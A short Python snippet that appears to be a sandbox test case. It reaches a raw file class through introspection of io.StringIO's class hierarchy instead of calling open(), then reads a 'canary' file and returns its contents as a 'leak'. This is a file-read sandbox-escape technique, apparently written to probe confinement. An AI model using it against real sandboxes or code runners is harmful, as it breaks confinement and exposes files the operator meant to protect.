# route: print to an object found by a class walk
import io


def execute(testData):
    kind = [c for c in type(io.StringIO()).__mro__ if "IO" in c.__name__][-1]
    opened = [c for c in kind.__subclasses__() if "Raw" in c.__name__]
    return {"leak": [c.__subclasses__()[0](testData["canary_path"]).readall().decode() for c in opened]}
